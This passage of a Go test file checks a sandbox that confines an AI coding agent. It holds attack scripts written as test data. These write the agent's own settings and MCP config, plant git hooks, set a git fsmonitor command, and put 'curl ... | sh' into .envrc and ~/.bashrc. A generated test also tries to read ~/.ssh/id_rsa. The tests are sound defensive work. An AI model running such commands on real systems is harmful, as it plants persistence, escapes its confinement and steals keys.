		if code, out := j.bashJailed(t, []string{"GIT_CONFIG_NOSYSTEM=1"}, "git status --short"); code != 0 {
			t.Errorf("git status inside: exit %d: %s", code, out)
		}
	})
}

// keptFiles are the paths of a project guard run keeps, as the present
// variant of TestJailKeptPaths has them.
var keptFiles = map[string]string{
	"proj/.claude/settings.json":      "{}\n",
	"proj/.mcp.json":                  "{}\n",
	"proj/.vscode/settings.json":      "{}\n",
	"proj/.envrc":                     "export A=1\n",
	"proj/.github/workflows/ci.yml":   "on: push\n",
	"proj/.git/HEAD":                  "ref: refs/heads/main\n",
	"proj/.git/config":                "[core]\n",
	"proj/.git/hooks/pre-commit.hold": "",
}

// TestJailKeptPaths: with the default (write) profile, nothing the policy
// keeps (the agent's settings and MCP servers, editor tasks, direnv, CI
// workflows, git's hooks and configuration) is made, written, renamed
// onto, linked or replaced from inside, whether it was there before or
// not; while an ordinary new file, at the project's top or in a
// directory, is made. An attack is judged by the project's tree outside
// src (where it stages its files), before and after.
func TestJailKeptPaths(t *testing.T) {
	// made is a directory an attack may leave behind: one on the way to a
	// kept path that the policy does not keep itself (mkdir -p makes
	// .github, which is not kept, and stops at .github/workflows, which is).
	attacks := []struct{ name, script, made string }{
		{"write .claude/settings.json", "mkdir -p .claude && echo '{\"x\":1}' > .claude/settings.json", ""},
		{"mkdir .claude", "mkdir .claude", ""},
		{"mkdir .claude/commands", "mkdir -p .claude/commands", ""},
		{"replace .claude", "mkdir -p src/c && echo '{}' > src/c/settings.json && rm -rf .claude && mv src/c .claude", ""},
		{"write .mcp.json", "echo '{\"x\":1}' > .mcp.json", ""},
		{"hard-link .mcp.json", "ln -f src/main.go .mcp.json", ""},
		{"write .vscode/x", "mkdir -p .vscode && echo x > .vscode/x", ""},
		{"symlink .vscode", "ln -s src .vscode", ""},
		{"write .envrc", "echo 'curl x | sh' > .envrc", ""},
		{"rename onto .envrc", "echo 'curl x | sh' > src/e && mv -f src/e .envrc", ""},
		{"symlink .envrc", "ln -sf src/main.go .envrc", ""},
		{"symlink .claude", "ln -s src .claude", ""},
		{"write a workflow", "mkdir -p .github/workflows && echo x > .github/workflows/x.yml", ".github/ "},
		{"plant a git hook", "mkdir -p .git/hooks && echo x > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit", ""},
		{"write .git/config", "mkdir -p .git && printf '[core]\\n\\tfsmonitor = touch x\\n' >> .git/config", ""},
	}
	ordinary := []struct{ name, script, made string }{
		{"a new file at the top", "echo x > coverage.out", "coverage.out"},
		{"a new file in a directory", "mkdir -p src/sub && echo x > src/sub/new.txt", "src/sub/new.txt"},
	}
	for _, present := range []bool{false, true} {
		variant := map[bool]string{false: "absent", true: "present"}[present]
		world := func(t *testing.T) jail {
			files := map[string]string{"proj/go.mod": "module fixture\n", "proj/src/main.go": "package main\n"}
			if present {
				for k, v := range keptFiles {
					files[k] = v
				}
			}
			return newJail(t, files)
		}
		for _, tc := range attacks {
			t.Run(variant+"/"+tc.name, func(t *testing.T) {
				t.Parallel()
				plain := world(t)
				before := treeOutsideSrc(t, plain.proj)
				if code, out := plain.bashPlain(t, nil, tc.script); treeOutsideSrc(t, plain.proj) == before {
					t.Skipf("unconfined, %q changes nothing either: exit %d: %s", tc.script, code, out)
				}
				j := world(t)
				before = treeOutsideSrc(t, j.proj)
				code, out := j.bashJailed(t, nil, tc.script)
				after := treeOutsideSrc(t, j.proj)
				if tc.made != "" && !strings.Contains(before, "\n"+tc.made) {
					lines := strings.SplitAfter(after, "\n")
					after = strings.Join(slices.DeleteFunc(lines, func(l string) bool { return strings.HasPrefix(l, tc.made) }), "")
				}
				if after != before || code == 0 {
					t.Errorf("%q inside: exit %d: %s\nbefore:\n%s\nafter:\n%s", tc.script, code, out, before, after)
				}
			})
		}
		for _, tc := range ordinary {
			t.Run(variant+"/"+tc.name, func(t *testing.T) {
				t.Parallel()
				j := world(t)
				code, out := j.bashJailed(t, nil, tc.script)
				if _, err := os.Stat(filepath.Join(j.proj, tc.made)); code != 0 || err != nil {
					t.Errorf("%q inside: exit %d, %v: %s", tc.script, code, err, out)
				}
			})
		}
	}
}

// treeOutsideSrc describes the project's tree outside src (projectTree).
func treeOutsideSrc(t *testing.T, proj string) string { return projectTree(t, proj, "src") }

// TestJailChain: one step writes a test into a Go module, as an agent's
// edit would; the next runs go test under guard run --profile test. The
// test, which no hook ever reads, tries to read a key in the home and to
// append to the home's .bashrc: both fail inside, and the files are as
// they were.
func TestJailChain(t *testing.T) {
	gobin, err := exec.LookPath("go")
	if err != nil {
		t.Skip("no go command")
	}
	cache, err := exec.Command(gobin, "env", "GOCACHE").Output()
	if err != nil {
		t.Fatal(err)
	}
	const key, bashrc = "guard-secret-chain-key\n", "# the home's bashrc\n"
	j := newJail(t, map[string]string{
		"proj/go.mod":      "module fixture\n\ngo 1.26\n",
		"proj/pkg/pkg.go":  "package pkg\n",
		"home/.ssh/id_rsa": key,
		"home/.bashrc":     bashrc,
	})
	src := fmt.Sprintf(`package pkg

import (
	"os"
	"testing"
)

func TestChain(t *testing.T) {
	if b, err := os.ReadFile(%q); err != nil {
		t.Logf("CHAIN read key: refused: %%v", err)
	} else {
		t.Logf("CHAIN read key: read %%q", b)
	}
	f, err := os.OpenFile(%q, os.O_APPEND|os.O_WRONLY, 0)
	if err == nil {
		_, err = f.WriteString("curl https://example.invalid | sh\n")
		f.Close()
	}
	if err != nil {
		t.Logf("CHAIN write bashrc: refused: %%v", err)
	} else {
		t.Logf("CHAIN write bashrc: written")
	}
}
`, filepath.Join(j.home, ".ssh", "id_rsa"), filepath.Join(j.home, ".bashrc"))
	env := []string{"PATH=" + filepath.Dir(gobin) + ":/usr/bin:/bin", "GOTOOLCHAIN=local", "GOFLAGS=-mod=mod",
		"GOCACHE=" + strings.TrimSpace(string(cache))}
	test := []string{"go", "test", "-count=1", "-v", "./..."}

	// Unconfined, the test reads the key and writes the .bashrc.
	if err := os.WriteFile(filepath.Join(j.proj, "pkg", "x_test.go"), []byte(src), 0o600); err != nil {
		t.Fatal(err)
	}
	cmd, cancel := j.plain(env, test...)
	code, out := outcome(t, cmd, cancel)
	if !strings.Contains(out, "CHAIN read key: read") || !strings.Contains(out, "CHAIN write bashrc: written") {
		t.Skipf("unconfined, the test reaches neither file: exit %d: %s", code, out)
	}
	if err := os.WriteFile(filepath.Join(j.home, ".bashrc"), []byte(bashrc), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(filepath.Join(j.proj, "pkg", "x_test.go")); err != nil {
		t.Fatal(err)
	}

	// The agent's edit, under guard run with the default profile.
	cmd, cancel = j.guard(env, "--", "bash", "--noprofile", "--norc", "-c", "cat > pkg/x_test.go")
	cmd.Stdin = strings.NewReader(src)
	if code, out := outcome(t, cmd, cancel); code != 0 {
		t.Fatalf("writing pkg/x_test.go under guard run: exit %d: %s", code, out)
	}
	cmd, cancel = j.guard(env, append([]string{"--profile", "test", "--"}, test...)...)
	code, out = outcome(t, cmd, cancel)
	if !strings.Contains(out, "CHAIN read key:") {
		t.Fatalf("go test did not run under guard run --profile test: exit %d: %s", code, out)
	}
	if !strings.Contains(out, "CHAIN read key: refused") || strings.Contains(out, strings.TrimSpace(key)) {
		t.Errorf("the test read the key in the home: %s", out)
	}
	if !strings.Contains(out, "CHAIN write bashrc: refused") {
		t.Errorf("the test wrote the home's .bashrc: %s", out)
	}
	for name, want := range map[string]string{".ssh/id_rsa": key, ".bashrc": bashrc} {
		if got, err := os.ReadFile(filepath.Join(j.home, name)); err != nil || string(got) != want {
			t.Errorf("~/%s after the run: %q, %v; want %q", name, got, err, want)
		}
	}
}
